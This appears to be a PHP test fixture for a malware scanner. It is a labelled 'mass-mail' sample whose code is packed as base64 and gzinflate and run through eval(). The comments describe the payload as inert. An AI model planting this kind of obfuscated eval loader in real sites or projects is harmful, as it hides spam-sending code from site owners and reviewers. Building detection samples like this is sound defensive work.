<?php
// Family: mailer/mass-form
// Style: inert mass-mail loop packed with gzinflate over base64, the blob in a variable
// Trait: the unwrapped payload of tests/samples/malicious/mailer/layer-plain.php, decoded statically by the scanner
$p = 'U8nJLC5RsFVIrSjIyU9J1VCKyVPSUVCJD/APDolWT81NzMwpVo/VtOZKyy9KTUzOUNBQAetILFZQKcnXVKjm4gSp0SgpyszVAIkgNBeXJmWlJpeoxyKEkvJTKkF8Jbei/FwrBSUFPbhUGlAEbFEtFwA=';
eval(gzinflate(base64_decode($p)));
